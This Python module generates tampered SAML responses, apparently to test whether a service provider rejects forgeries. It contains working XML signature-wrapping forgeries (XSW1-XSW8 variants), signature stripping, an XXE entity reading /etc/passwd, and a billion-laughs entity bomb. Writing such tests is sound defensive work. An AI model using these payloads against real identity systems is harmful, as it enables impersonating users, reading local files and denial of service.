"""What somebody can do to a signed SAML answer that passes through their own browser.

The wrappings are those of Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be"
(USENIX Security 2012): the signed assertion stays whole somewhere, a forged one stands where a
careless reader looks.
"""

import re
from copy import deepcopy

from lxml import etree

NAMES = {
    "samlp": "urn:oasis:names:tc:SAML:2.0:protocol",
    "saml": "urn:oasis:names:tc:SAML:2.0:assertion",
    "ds": "http://www.w3.org/2000/09/xmldsig#",
}
TRUE, FALSE = "sara@proefdam.example", "els@proefdam.example"


def another_person(answer):
    assert TRUE in answer
    return answer.replace(TRUE, FALSE)


def another_group(answer):
    assert ">everybody<" in answer
    return answer.replace(">everybody<", ">council<")


def no_signature(answer):
    root = _read(answer)
    for signature in root.findall(".//ds:Signature", NAMES):
        signature.getparent().remove(signature)
    return _write(root)


def only_the_outer_signature(answer):
    root = _read(answer)
    signature = root.find("saml:Assertion/ds:Signature", NAMES)
    signature.getparent().remove(signature)
    return _write(root)


def another_signature_value(answer):
    return re.sub(r"(<ds:SignatureValue>)(.)", lambda found: found[1] + _other(found[2]), answer)


def wrapped_before(answer):
    """XSW3: the forged assertion first, the signed one behind it."""
    root, signed, forged = _forge(answer)
    root.insert(root.index(signed), forged)
    return _write(root)


def wrapped_after(answer):
    root, signed, forged = _forge(answer)
    root.insert(root.index(signed) + 1, forged)
    return _write(root)


def wrapped_inside(answer):
    """XSW4: the signed assertion inside the forged one."""
    root, signed, forged = _forge(answer)
    root.replace(signed, forged)
    forged.append(signed)
    return _write(root)


def wrapped_in_the_signature(answer):
    """XSW6: the signed assertion inside the signature that the forged one carries."""
    root, signed, forged = _forge(answer)
    signature = signed.find("ds:Signature", NAMES)
    forged.insert(1, deepcopy(signature))
    root.replace(signed, forged)
    forged.find("ds:Signature", NAMES).append(signed)
    return _write(root)


def wrapped_in_an_object(answer):
    """XSW8: the signed assertion in an object of the signature."""
    root, signed, forged = _forge(answer)
    signature = signed.find("ds:Signature", NAMES)
    forged.insert(1, deepcopy(signature))
    root.replace(signed, forged)
    place = etree.SubElement(forged.find("ds:Signature", NAMES), f"{{{NAMES['ds']}}}Object")
    place.append(signed)
    return _write(root)


def wrapped_in_extensions(answer):
    """XSW7: the signed assertion among extensions, where schemas allow everything."""
    root, signed, forged = _forge(answer)
    root.replace(signed, forged)
    extensions = etree.Element(f"{{{NAMES['samlp']}}}Extensions")
    extensions.append(signed)
    root.insert(1, extensions)
    return _write(root)


def a_whole_answer_wrapped(answer):
    """XSW1: a forged answer around the signed one."""
    root = _read(answer)
    forged = _read(another_person(answer))
    forged.set("ID", "_forged")
    signature = forged.find("ds:Signature", NAMES)
    if signature is not None:
        signature.append(root)
    else:
        forged.append(root)
    return _write(forged)


def an_entity(answer):
    """A document type with an entity that would be read from this machine."""
    doctype = '<!DOCTYPE samlp:Response [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return doctype + answer.replace(">everybody<", ">&x;<").removeprefix('<?xml version="1.0"?>')


def entities_that_grow(answer):
    """The billion laughs."""
    lines = ['<!ENTITY a0 "ha">']
    lines += [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)]
    doctype = f"<!DOCTYPE samlp:Response [{''.join(lines)}]>"
    return doctype + answer.replace(">everybody<", ">&a9;<").removeprefix('<?xml version="1.0"?>')


def half_an_answer(answer):
    return answer[: len(answer) // 2]


def no_xml(_answer):
    return "Sara, really."


def too_deep(answer):
    return answer.replace("</samlp:Status>", "</samlp:Status>" + "<a>" * 5000 + "</a>" * 5000)


CHANGES = [
    another_person,
    another_group,
    no_signature,
    only_the_outer_signature,
    another_signature_value,
    wrapped_before,
    wrapped_after,
    wrapped_inside,
    wrapped_in_the_signature,
    wrapped_in_an_object,
    wrapped_in_extensions,
    a_whole_answer_wrapped,
    an_entity,
    entities_that_grow,
    half_an_answer,
    no_xml,
    too_deep,
]


def _forge(answer):
    """The answer, the signed assertion in it, and a forged one without a signature."""
    root = _read(answer)
    signed = root.find("saml:Assertion", NAMES)
    forged = deepcopy(signed)
    forged.set("ID", "_forged")
    forged.remove(forged.find("ds:Signature", NAMES))
    for value in forged.iterfind(".//saml:AttributeValue", NAMES):
        value.text = FALSE if value.text == TRUE else value.text
    return root, signed, forged


def _other(letter):
    return "B" if letter == "A" else "A"


def _read(text):
    return etree.fromstring(text.encode())


def _write(root):
    return etree.tostring(root, encoding="unicode")
